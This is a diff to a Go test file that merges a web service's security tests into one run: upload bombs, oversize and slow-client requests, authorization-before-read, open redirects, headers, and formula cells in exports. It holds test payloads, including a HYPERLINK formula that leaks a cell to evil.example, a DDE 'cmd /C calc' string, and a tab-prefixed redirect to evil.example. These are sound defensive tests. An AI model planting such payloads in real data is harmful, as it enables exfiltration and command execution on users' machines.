@@ -41,6 +41,30 @@ import (
 // and the harness that the heap rose by less than attackBudget and nothing of the
 // service's state was written.
 
+// TestSecurityFrontDoor runs the attacks in turn on one service (a Temporal test
+// server takes seconds to start under the race detector). The formula cells go last:
+// they rename a department and a village.
+func TestSecurityFrontDoor(t *testing.T) {
+	f := newFixture(t, sqldbtest.SQLiteDSN(t))
+	tokens := signInAll(t, f)
+	f.user("alice", "", "", g("auditor", "*"))
+	for _, a := range []struct {
+		name string
+		run  func(*testing.T, *fixture, map[string]string)
+	}{
+		{"upload bombs", securityUploadBombs},
+		{"launch pairings flood", securityLaunchPairingsFlood},
+		{"oversize bodies", securityOversizeBodies},
+		{"no body read before authorization", securityNoBodyReadBeforeAuthorization},
+		{"slow clients", securitySlowClients},
+		{"open redirects", securityOpenRedirects},
+		{"cookies and headers", securityCookiesAndHeaders},
+		{"formula cells in exports", securityFormulaCellsInExports},
+	} {
+		t.Run(a.name, func(t *testing.T) { a.run(t, f, tokens) })
+	}
+}
+
 // counting is a request body that counts what the service read of it.
 type counting struct {
 	r io.Reader
@@ -97,6 +121,9 @@ type upload struct {
 	allowed    []string // actors who get past the gate
 	status     int      // what an allowed actor's bomb gets
 	form       func(b sheettest.Bomb) (contentType string, body []byte)
+	// unread: the route reads the body but never as a file, so the bombs go as one
+	// attack (each attack's collection is most of its cost).
+	unread bool
 }
 
 func multipartFile(settings string) func(b sheettest.Bomb) (string, []byte) {
@@ -124,7 +151,7 @@ var uploads = func() []upload {
 	out := []upload{
 		{name: "launch multipart", path: "/api/v1/cycles", allowed: []string{"organiser", "organiser_a"}, status: 422, form: multipartFile(settings)},
 		// A launch's body is JSON unless multipart: a workbook sent as the body is never unpacked.
-		{name: "launch body", path: "/api/v1/cycles", allowed: []string{"organiser", "organiser_a"}, status: 400, form: raw},
+		{name: "launch body", path: "/api/v1/cycles", allowed: []string{"organiser", "organiser_a"}, status: 400, form: raw, unread: true},
 	}
 	// Each import gets every bomb, and each form every bomb (the forms share one reader
 	// after the body is read: every pair would only repeat the slowest bombs).
@@ -142,49 +169,63 @@ var uploads = func() []upload {
 // every upload route in every form, as every role: whoever may not use the route is
 // refused without a byte of the body read; whoever may is refused with the limit
 // named (422, with the file's row), at once and within the heap budget.
-func TestSecurityUploadBombs(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	tokens := signInAll(t, f)
+func securityUploadBombs(t *testing.T, f *fixture, tokens map[string]string) {
 	h := f.handler()
 	bombs := sheettest.Bombs()
+	// check sends b as actor and asserts its refusal: unread, for an actor the route
+	// refuses; else with u's status (for a file, naming the limit in its row), at once.
+	check := func(t *testing.T, u upload, actor string, b sheettest.Bomb) {
+		ct, body := u.form(b)
+		if !allowed(u.allowed, actor) {
+			status, resp, read := serveIn(h, tokens[actor], "POST", u.path, ct, body, -1)
+			if !refused(status) || read != 0 {
+				t.Errorf("%s as %s: %d after reading %d bytes, want 401 or 403 with none read: %.300s", b.Name, actor, status, read, resp)
+			}
+			return
+		}
+		start := time.Now()
+		status, resp, _ := serveIn(h, tokens[actor], "POST", u.path, ct, body, int64(len(body)))
+		if took := time.Since(start); took > refusalTime {
+			t.Errorf("%s: refused after %s, want within %s", b.Name, took, refusalTime)
+		}
+		if status != u.status {
+			t.Errorf("%s: %d, want %d: %.400s", b.Name, status, u.status, resp)
+			return
+		}
+		if u.status == 422 {
+			var out struct {
+				Error struct {
+					Rows []baocun.RowError `json:"rows"`
+				} `json:"error"`
+			}
+			json.Unmarshal([]byte(resp), &out)
+			if len(out.Error.Rows) != 1 || !strings.Contains(out.Error.Rows[0].Message, b.Want) {
+				t.Errorf("%s: rows %+v, want one naming %q", b.Name, out.Error.Rows, b.Want)
+			}
+		}
+	}
 	for _, u := range uploads {
-		for _, a := range actors {
-			if !allowed(u.allowed, a.name) {
-				runAttack(t, f, u.name+" as "+a.name, func(t *testing.T) {
+		// Everyone the route refuses, with every bomb: nothing of any is read.
+		runAttack(t, f, u.name+" as everyone refused", func(t *testing.T) {
+			for _, a := range actors {
+				if !allowed(u.allowed, a.name) {
 					for _, b := range bombs {
-						ct, body := u.form(b)
-						status, resp, read := serveIn(h, tokens[a.name], "POST", u.path, ct, body, -1)
-						if !refused(status) || read != 0 {
-							t.Fatalf("%s: %d after reading %d bytes, want 401 or 403 with none read: %.300s", b.Name, status, read, resp)
-						}
+						check(t, u, a.name, b)
+					}
+				}
+			}
+		})
+		for _, actor := range u.allowed {
+			if u.unread {
+				runAttack(t, f, u.name+" as "+actor, func(t *testing.T) {
+					for _, b := range bombs {
+						check(t, u, actor, b)
 					}
 				})
 				continue
 			}
 			for _, b := range bombs {
-				runAttack(t, f, u.name+" as "+a.name+": "+b.Name, func(t *testing.T) {
-					ct, body := u.form(b)
-					start := time.Now()
-					status, resp, _ := serveIn(h, tokens[a.name], "POST", u.path, ct, body, int64(len(body)))
-					took := time.Since(start)
-					if status != u.status {
-						t.Fatalf("%d, want %d: %.400s", status, u.status, resp)
-					}
-					if u.status == 422 {
-						var out struct {
-							Error struct {
-								Rows []baocun.RowError `json:"rows"`
-							} `json:"error"`
-						}
-						json.Unmarshal([]byte(resp), &out)
-						if len(out.Error.Rows) != 1 || !strings.Contains(out.Error.Rows[0].Message, b.Want) {
-							t.Fatalf("rows %+v, want one naming %q", out.Error.Rows, b.Want)
-						}
-					}
-					if took > refusalTime {
-						t.Errorf("refused after %s, want within %s", took, refusalTime)
-					}
-				})
+				runAttack(t, f, u.name+" as "+actor+": "+b.Name, func(t *testing.T) { check(t, u, actor, b) })
 			}
 		}
 	}
@@ -192,9 +233,7 @@ func TestSecurityUploadBombs(t *testing.T) {
 
 // A launch's inline pairings within the body's limit but many: millions of empty
 // objects are refused at the pairings a file may have, not held.
-func TestSecurityLaunchPairingsFlood(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	tokens := signInAll(t, f)
+func securityLaunchPairingsFlood(t *testing.T, f *fixture, tokens map[string]string) {
 	limit := web.RouteBodyLimits()["POST /cycles"]
 	head, tail := `{"name":"洪水 flood","jurisdiction":"县A","start_date":"2030-01-01","pairings":[{}`, `]}`
 	body := []byte(head + strings.Repeat(",{}", (int(limit)-len(head)-len(tail))/3) + tail)
@@ -209,9 +248,7 @@ func TestSecurityLaunchPairingsFlood(t *testing.T) {
 // A body over its route's limit, on every route that reads one, as a caller the
 // route lets through: refused with 413 naming the limit — before a byte is read
 // when its length is declared, and at the limit when it is not.
-func TestSecurityOversizeBodies(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	tokens := signInAll(t, f)
+func securityOversizeBodies(t *testing.T, f *fixture, tokens map[string]string) {
 	h := f.handler()
 	limits := web.RouteBodyLimits()
 	done := map[string]bool{}
@@ -262,9 +299,7 @@ func TestSecurityOversizeBodies(t *testing.T) {
 // county's organiser launching for the city) may have the body read before the
 // refusal — the launch's jurisdiction is in it. A loader that read the body before the
 // decision for everyone (as the launch's once did) fails this for every role.
-func TestSecurityNoBodyReadBeforeAuthorization(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	tokens := signInAll(t, f)
+func securityNoBodyReadBeforeAuthorization(t *testing.T, f *fixture, tokens map[string]string) {
 	h := f.handler()
 	mayUse := func(route, actor string) bool {
 		for _, c := range cells {
@@ -308,8 +343,7 @@ func TestSecurityNoBodyReadBeforeAuthorization(t *testing.T) {
 // Slow clients against the server exactly as serve builds it (web.NewHTTPServer): a
 // body trickled a byte a second, headers trickled, and a keep-alive connection left
 // idle are each dropped once their timeout passes.
-func TestSecuritySlowClients(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
+func securitySlowClients(t *testing.T, f *fixture, _ map[string]string) {
 	srv := web.NewHTTPServer(f.handler())
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
@@ -398,7 +432,7 @@ func TestSecuritySlowClients(t *testing.T) {
 // The sign-in page's next goes to a path of this site only: every way of naming
 // another site is sent to "/", as the form's target and as the redirect of a visitor
 // signed in already.
-func TestSecurityOpenRedirects(t *testing.T) {
+func securityOpenRedirects(t *testing.T, f *fixture, _ map[string]string) {
 	tests := []struct{ next, want string }{
 		{"/inbox", "/inbox"},
 		{"/pairings/1?tab=team#log", "/pairings/1?tab=team#log"},
@@ -427,13 +461,11 @@ func TestSecurityOpenRedirects(t *testing.T) {
 		}
 	}
 
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	f.user("alice", "", "", g("auditor", "*"))
 	cookie := sessionCookie(t, f, "alice")
 	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
-	for _, tt := range tests {
-		rawQuery := "next=" + url.QueryEscape(tt.next)
-		runAttack(t, f, fmt.Sprintf("next=%q", tt.next), func(t *testing.T) {
+	runAttack(t, f, "every variant", func(t *testing.T) {
+		for _, tt := range tests {
+			rawQuery := "next=" + url.QueryEscape(tt.next)
 			resp, err := http.Get(f.srv.URL + "/login?" + rawQuery)
 			if err != nil {
 				t.Fatal(err)
@@ -441,7 +473,7 @@ func TestSecurityOpenRedirects(t *testing.T) {
 			page, _ := io.ReadAll(resp.Body)
 			resp.Body.Close()
 			if want := `data-next="` + htmlAttr(tt.want) + `"`; !strings.Contains(string(page), want) {
-				t.Fatalf("the form's target is not %s", want)
+				t.Errorf("next=%q: the form's target is not %s", tt.next, want)
 			}
 			req, _ := http.NewRequest("GET", f.srv.URL+"/login?"+rawQuery, nil)
 			req.AddCookie(cookie)
@@ -451,10 +483,10 @@ func TestSecurityOpenRedirects(t *testing.T) {
 			}
 			resp.Body.Close()
 			if loc := resp.Header.Get("Location"); resp.StatusCode != http.StatusSeeOther || loc != tt.want {
-				t.Fatalf("signed in: %d to %q, want 303 to %q", resp.StatusCode, loc, tt.want)
+				t.Errorf("next=%q, signed in: %d to %q, want 303 to %q", tt.next, resp.StatusCode, loc, tt.want)
 			}
-		})
-	}
+		}
+	})
 	// The issue's own example, as a browser sends it.
 	resp, err := http.Get(f.srv.URL + "/login?next=/%09/evil.example/x")
 	if err != nil {
@@ -495,9 +527,7 @@ func sessionLogin(t *testing.T, client *http.Client, base, name string, header h
 // sign-in and a user agent (the audit trail), a department's and a village's name (the
 // commendation list and rankings) — come out of every export as text: marked in
 // CSV, strings in XLSX, never a formula.
-func TestSecurityFormulaCellsInExports(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	tokens := signInAll(t, f)
+func securityFormulaCellsInExports(t *testing.T, f *fixture, tokens map[string]string) {
 	const (
 		evilName    = `=HYPERLINK("http://evil.example/?leak="&A1,"点我 click")`
 		evilAgent   = `@SUM(1+1)*cmd|' /C calc'!A0`
@@ -617,9 +647,7 @@ func (f *fixture) handlerWith(set func(*web.Deps)) http.Handler {
 // trusted proxy that says so, and HSTS goes with it; a header anyone else sends is
 // not believed. Every answer carries nosniff, no framing and a referrer policy; pages
 // a Content-Security-Policy with scripts from the site only.
-func TestSecurityCookiesAndHeaders(t *testing.T) {
-	f := newFixture(t, sqldbtest.SQLiteDSN(t))
-	f.user("alice", "", "", g("auditor", "*"))
+func securityCookiesAndHeaders(t *testing.T, f *fixture, _ map[string]string) {
 	const year = 365 * 24 * time.Hour
 	https := http.Header{"X-Forwarded-Proto": {"https"}}
 	behind := func(proxies ...string) *httptest.Server {
